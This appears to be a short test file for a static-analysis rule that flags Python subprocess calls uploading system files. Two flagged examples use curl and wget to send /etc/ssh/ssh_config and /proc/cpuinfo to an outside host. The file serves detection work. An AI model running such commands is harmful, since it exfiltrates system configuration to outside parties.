import subprocess

# ok: system-file-upload
subprocess.run(["curl", "-T", "report.pdf", "https://x.example/submit"])
# ok: system-file-upload
subprocess.run(["cat", "/etc/host.conf"])
# ruleid: system-file-upload
subprocess.run(["curl", "--data-binary", "@/etc/ssh/ssh_config", "https://x.example/submit"])
# ruleid: system-file-upload
subprocess.run("wget --post-file=/proc/cpuinfo https://x.example/submit", shell=True)
